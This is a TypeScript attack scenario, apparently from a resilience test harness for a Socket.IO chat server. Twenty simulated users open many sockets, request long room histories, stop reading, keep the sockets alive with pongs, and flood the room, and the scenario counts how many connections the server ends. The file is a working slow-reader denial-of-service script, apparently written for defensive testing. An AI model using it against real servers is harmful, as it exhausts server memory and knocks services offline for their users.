/** 20 people with 8 sockets each ask for the longest answers and read none. They send pongs although they read no ping. */
import { once, setMaxListeners } from 'node:events';
import { setTimeout as wait } from 'node:timers/promises';
import type { Attack } from './attack';
import { fillRoom, makeRoom, people, type Hostile } from './crowd';

export const attack: Attack = async ({ url, signal }) => {
  const crowd = await people(url, 20);
  const [owner] = crowd;
  if (owner === undefined) throw new Error('nobody came');
  setMaxListeners(0, signal);
  let sockets = 0;
  let ended = 0;
  const room = await makeRoom(url, owner);
  await fillRoom(url, room, crowd, 200);

  async function sit(who: Hostile): Promise<void> {
    const socket = await who.raw();
    sockets += 1;
    socket.send('40/chat,');
    await once(socket, 'message');
    await once(socket, 'message');
    for (const id of [0, 1, 2, 3])
      socket.send(`42/chat,${String(id)}${JSON.stringify(['join', { room, after: 0 }])}`);
    socket.pause();
    // While it reads nothing, only sending shows that the server has ended the connection.
    while (!signal.aborted && socket.readyState === socket.OPEN) {
      socket.send('3');
      socket.pong('not read');
      await wait(1_000);
    }
    if (!signal.aborted) ended += 1;
    socket.terminate();
  }

  async function sitAgain(who: Hostile): Promise<void> {
    while (!signal.aborted) await sit(who).catch(() => wait(500));
  }

  for (const who of crowd) for (let n = 0; n < 8; n += 1) void sitAgain(who);
  // People go on talking in the room, so that more and more waits for the sockets that read nothing.
  while (!signal.aborted) {
    await fillRoom(url, room, crowd, crowd.length);
    await wait(500);
  }
  return `${String(sockets)} sockets read nothing, ${String(ended)} of them were ended`;
};
